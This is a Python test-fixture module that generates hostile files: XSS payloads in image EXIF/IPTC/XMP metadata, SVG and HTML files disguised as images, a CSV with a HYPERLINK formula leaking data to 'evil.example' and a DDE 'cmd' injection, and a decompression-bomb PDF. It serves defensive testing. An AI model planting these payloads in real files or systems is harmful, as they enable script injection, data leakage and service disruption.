"""Hostile files made in memory: script in every EXIF, IPTC and XMP text field a reader
keeps, GPS to hide, product exports with script and formulas, markup posing as images.

Each payload names where it was put (`exif:rights`), so a test can tell which field came
back and check it came back exactly as written: stored as text, neither run nor mangled.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from dataclasses import dataclass
from xml.sax.saxutils import escape

from PIL import Image


def payload(where: str) -> str:
    """Script that would run if any view put this text into HTML unescaped."""
    return f'<script>alert("{where}")</script><img src=x onerror="alert(\'{where}\')">&amp;'


# metadata key (as `indexer.assets.metadata` names it) -> the tag or dataset holding it
EXIF_TAGS = {
    "description": 0x010E,
    "creator": 0x013B,
    "rights": 0x8298,
    "camera_make": 0x010F,
    "camera_model": 0x0110,
    "software": 0x0131,
}
IPTC_DATASETS = {"title": 5, "headline": 105, "description": 120, "creator": 80, "credit": 110, "rights": 116}
XMP_FIELDS = {
    "title": ("dc", "title"),
    "description": ("dc", "description"),
    "creator": ("dc", "creator"),
    "rights": ("dc", "rights"),
    "headline": ("photoshop", "Headline"),
    "credit": ("photoshop", "Credit"),
    "usage_terms": ("xmpRights", "UsageTerms"),
    "alt_text": ("Iptc4xmpCore", "AltTextAccessibility"),
}
GPS = (52.3676, 4.9041)  # what a public view must never show


@dataclass(frozen=True)
class HostileImage:
    name: str
    data: bytes
    expected: dict[str, object]  # metadata key -> the exact text it must come back as


def _jpeg(seed: int, **params: object) -> bytes:
    # Distinct pixels per file, so no two hostile images are deduplicated by content.
    image = Image.new("RGB", (96, 64), (40 + seed * 60 % 200, 90, 200 - seed * 30 % 150))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=85, **params)
    return out.getvalue()


def _dms(value: float) -> tuple[float, float, float]:
    degrees = int(value)
    minutes = int((value - degrees) * 60)
    return float(degrees), float(minutes), round(((value - degrees) * 60 - minutes) * 60, 4)


def exif_image() -> HostileImage:
    exif = Image.Exif()
    for key, tag in EXIF_TAGS.items():
        exif[tag] = payload(f"exif:{key}")
    exif.get_ifd(0x8769)[0xA434] = payload("exif:lens")
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", _dms(GPS[0]), "E", _dms(GPS[1])
    expected: dict[str, object] = {key: payload(f"exif:{key}") for key in EXIF_TAGS}
    expected["lens"] = payload("exif:lens")
    return HostileImage("hostile-exif.jpg", _jpeg(1, exif=exif), expected)


def _iptc_record(dataset: int, value: str) -> bytes:
    raw = value.encode("utf-8")
    return bytes([0x1C, 2, dataset]) + struct.pack(">H", len(raw)) + raw


def iptc_image() -> HostileImage:
    """IPTC in a hand-built Photoshop APP13 block right after SOI (Pillow cannot write one)."""
    records = [_iptc_record(ds, payload(f"iptc:{key}")) for key, ds in IPTC_DATASETS.items()]
    records += [_iptc_record(25, payload("iptc:keyword1")), _iptc_record(25, payload("iptc:keyword2"))]
    iptc = b"".join(records)
    iptc += b"\x00" * (len(iptc) % 2)
    resource = b"8BIM" + struct.pack(">H", 0x0404) + b"\x00\x00" + struct.pack(">I", len(iptc)) + iptc
    block = b"Photoshop 3.0\x00" + resource
    jpeg = _jpeg(2)
    data = jpeg[:2] + b"\xff\xed" + struct.pack(">H", len(block) + 2) + block + jpeg[2:]
    expected: dict[str, object] = {key: payload(f"iptc:{key}") for key in IPTC_DATASETS}
    expected["keywords"] = [payload("iptc:keyword1"), payload("iptc:keyword2")]
    return HostileImage("hostile-iptc.jpg", data, expected)


_XMP_NS = {
    "dc": "http://purl.org/dc/elements/1.1/",
    "photoshop": "http://ns.adobe.com/photoshop/1.0/",
    "xmpRights": "http://ns.adobe.com/xap/1.0/rights/",
    "Iptc4xmpCore": "http://iptc.org/std/Iptc4xmpCore/1.0/xmlns/",
}


def xmp_packet() -> bytes:
    """An XMP packet whose every text field carries script (XML-escaped, as a writer would)."""
    xmlns = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in _XMP_NS.items())
    fields = "".join(
        f'<{p}:{n}><rdf:Alt><rdf:li xml:lang="x-default">{escape(payload(f"xmp:{key}"))}</rdf:li></rdf:Alt></{p}:{n}>'
        for key, (p, n) in XMP_FIELDS.items()
    )
    keywords = f"<dc:subject><rdf:Bag><rdf:li>{escape(payload('xmp:keyword'))}</rdf:li></rdf:Bag></dc:subject>"
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        f"<rdf:Description {xmlns}>{fields}{keywords}</rdf:Description>"
        '</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    ).encode()


def xmp_image() -> HostileImage:
    expected: dict[str, object] = {key: payload(f"xmp:{key}") for key in XMP_FIELDS}
    expected["keywords"] = [payload("xmp:keyword")]
    return HostileImage("hostile-xmp.jpg", _jpeg(3, xmp=xmp_packet()), expected)


def hostile_images() -> list[HostileImage]:
    return [exif_image(), iptc_image(), xmp_image()]


# Markup that must never become an asset, whatever its name claims.
MARKUP_FILES = {
    "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    "prolog.svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(3)</script></svg>',
    "page.html": b"<!DOCTYPE html><html><body><script>alert(4)</script></body></html>",
    "photo.jpg": b"<html><script>alert(5)</script></html>",
    "script.png": b"<script>alert(6)</script>",
}


def zip_of(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


HOSTILE_SKU = "HOSTILE-1"
FORMULA_SKU = "HOSTILE-2"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def hostile_products_csv(image_name: str) -> tuple[bytes, dict[str, dict[str, str]]]:
    """A product export with script in every text column and a spreadsheet formula as a
    name; returns the file and, per SKU, the text each field must come back as."""
    rows = {
        HOSTILE_SKU: {
            "name": payload("csv:name"),
            "description": payload("csv:description"),
            "brand": payload("csv:brand"),
            "color": payload("csv:color"),
        },
        FORMULA_SKU: {"name": FORMULA, "description": "formula row", "brand": "+cmd|' /C calc'!A0", "color": "red"},
    }
    out = io.StringIO()
    import csv

    writer = csv.writer(out)
    writer.writerow(["sku", "name", "description", "brand", "categories", "price", "currency", "color", "image"])
    for sku, f in rows.items():
        writer.writerow([sku, f["name"], f["description"], f["brand"], "Men/Tops/Shirts", "19.99", "EUR", f["color"],
                         image_name])  # fmt: skip
    return out.getvalue().encode(), rows


def _pdf(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def inflating_pdf(inflated_mb: int = 1024) -> bytes:
    """A one-page PDF of a few KB whose content stream (`0 0 0 ...`, deflated twice)
    inflates to `inflated_mb` MiB: pdfium holds it all and parses every operand."""
    deflate = zlib.compressobj(9)
    chunk = b"0 " * (512 * 1024)  # 1 MiB
    inner = b"".join(deflate.compress(chunk) for _ in range(inflated_mb)) + deflate.flush()
    stream = zlib.compress(inner, 9)
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ])  # fmt: skip


def plain_pdf(text: str) -> bytes:
    """A valid one-page PDF with a line of text (the control beside a hostile one)."""
    stream = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode()
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])  # fmt: skip


def stale_dimension_xlsx(rows: list[list[object]]) -> bytes:
    """A workbook whose sheet header says `<dimension ref="A1"/>` whatever it holds, as
    many generators write it: a reader that trusts the header sees one cell."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    saved = io.BytesIO()
    book.save(saved)
    out = io.BytesIO()
    with zipfile.ZipFile(saved) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                data = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1"/>', data)
                assert b'<dimension ref="A1"/>' in data
            target.writestr(info, data)
    return out.getvalue()
